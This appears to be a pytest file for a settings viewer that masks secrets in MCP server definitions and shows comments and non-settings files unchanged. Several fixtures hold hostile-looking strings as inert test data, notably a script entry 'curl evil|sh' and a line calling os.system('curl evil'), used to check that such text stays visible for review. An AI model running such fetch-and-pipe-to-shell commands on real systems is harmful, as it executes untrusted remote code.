import json
import re

import pytest

from satchel.trust.shown_settings import shown_definition, shown_settings

SERVER = '{"a": {"command": "run", "args": ["--key", "planted"], "n": 1}}'


def without_tags(text):
    return re.sub(r"(?<=\*\*\*)<[0-9a-f]{8}>", "", text)


def test_secrets_of_servers_are_masked_and_a_changed_one_has_another_tag():
    before, now = (
        shown_settings("x.json", text) for text in (SERVER, SERVER.replace("plan", "chan"))
    )
    assert "***" in before
    assert "planted" not in before
    assert before != now
    assert without_tags(before) == without_tags(now)


def test_comments_of_json_are_shown_since_they_can_be_code():
    text = '//usr/bin/evil\n{"//a": "b /* c */", ' + SERVER[1:-1] + "/* evil\n2 */}"
    shown = shown_settings("x.jsonc", text)
    assert shown.startswith("//usr/bin/evil\n/* evil\n2 */\n{")
    assert "planted" not in shown


def test_a_tag_that_a_file_forges_is_shown():
    assert shown_settings("x.py", "# ***<6f733d5f>") == "# ***<6f733d5f>"


def test_what_changed_is_a_line_of_its_own():
    def lines(secret):
        servers = [
            {
                "name": "box",
                "env": {"API_KEY": secret, "MODE": "fast"},
                "args": ["run", "--token", secret],
                "headers": {"X-Way": secret},
            }
        ]
        return shown_definition({"servers": servers}).splitlines()

    before, now = lines("one"), lines("two")
    changed = [line.strip() for line, other in zip(before, now, strict=True) if line != other]
    assert [without_tags(line) for line in changed] == [
        '"API_KEY": "***",',
        '"***"',
        '"X-Way": "***"',
    ]


def test_only_the_secrets_of_servers_are_masked_in_json():
    servers = {"mcpServers": {"a": {"command": "x", "env": {"KEY": "planted"}}}}
    assert json.loads(without_tags(shown_settings("x.json", json.dumps(servers)))) == {
        "mcpServers": {"a": {"command": "x", "env": {"KEY": "***"}}}
    }
    scripts = json.dumps({"url": "x", "scripts": {"auth": "curl evil|sh", "key": "evil"}})
    assert shown_settings("x.json", scripts) == scripts


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.json", "import os\n"),
        ("x.json", '{"env": {"K": 1}, "env": {}}'),
        ("x.json", "[" * 9_999),
        ("x.yaml", "import os\nos.system('curl evil')\n"),
        ("x.yaml", "{" * 30_000),
        ("x.toml", "key = run(evil)\n"),
        ("x.py", SERVER),
        ("x.toml", "a = { command = 'x', env = { KEY = 'curl' } }"),
        ("x.yaml", "a: {command: run, env: {KEY: curl}} # evil"),
    ],
)
def test_what_is_no_settings_is_shown_as_it_is(name, text):
    assert shown_settings(name, text) == text
